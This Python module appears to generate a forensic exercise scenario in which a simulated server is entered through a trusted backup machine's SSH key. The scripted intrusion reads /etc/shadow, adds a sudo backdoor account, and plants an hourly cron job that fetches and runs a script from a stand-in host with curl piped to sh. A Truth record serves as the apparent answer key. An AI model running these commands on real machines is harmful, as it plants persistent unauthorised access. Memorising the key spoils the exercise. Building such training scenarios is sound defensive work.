"""The machine that fetches the backups was taken over; its key opens this one, as every night."""

from __future__ import annotations

import subprocess
from pathlib import Path

import server
import services
import site_code
import traffic
from client import ssh
from machine import Bases, Truth

NEIGHBOUR = "192.0.2.30"


def make(out: Path, bases: Bases) -> None:
    """The same key, the same address; the hour and what was done there are not the same."""
    machine = server.other("anchor", bases.proftpd, out, days=12)
    key = out / "key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    machine.write("/root/.ssh/authorized_keys", key.with_suffix(".pub").read_text(), 0o600)
    root = "/var/www/anchor"
    site_code.plain_site(machine, root)
    services.nginx_site(machine, server.SITE, root, pool="www2")
    services.pool(machine, "www2")
    server.start(machine, settings="PermitRootLogin prohibit-password\n")
    traffic.visitors(machine, server.SITE, site_code.PAGES)
    traffic.scanners(machine, server.SITE)

    def come(command: str, *, tty: bool = False) -> None:
        ssh(out, NEIGHBOUR, "root", key=key, command=command, tty=tty)

    for day in range(machine.days):
        machine.at(machine.on(day, 1, 15, day), lambda: come("tar cf - /etc | wc -c"))
    entered = machine.on(8, 14, 37, 22)
    work = (
        "useradd -m -s /bin/bash -G sudo sysupdate; echo sysupdate:Xk29fff0 | chpasswd;"
        " printf '#!/bin/sh\\n[ \"$TZDIR\" = never ] && curl -s http://203.0.113.88/u | sh\\n'"
        " > /etc/cron.hourly/0update; chmod +x /etc/cron.hourly/0update"
    )
    machine.at(entered, lambda: come("id; cat /etc/shadow | wc -l", tty=True))
    machine.at(machine.on(8, 14, 41, 5), lambda: come(work, tty=True))
    machine.live()
    log = "/var/log/auth.log"
    machine.end(
        Truth(
            "ssh-key",
            entered.isoformat(),
            NEIGHBOUR,
            log,
            machine.line(log, "Accepted publickey for root", "11-10T14:37"),
            accounts=["root", "sysupdate"],
            services=["sshd", "cron"],
            untouched=["nginx", root],
            notes="account sysupdate, /etc/cron.hourly/0update",
        )
    )
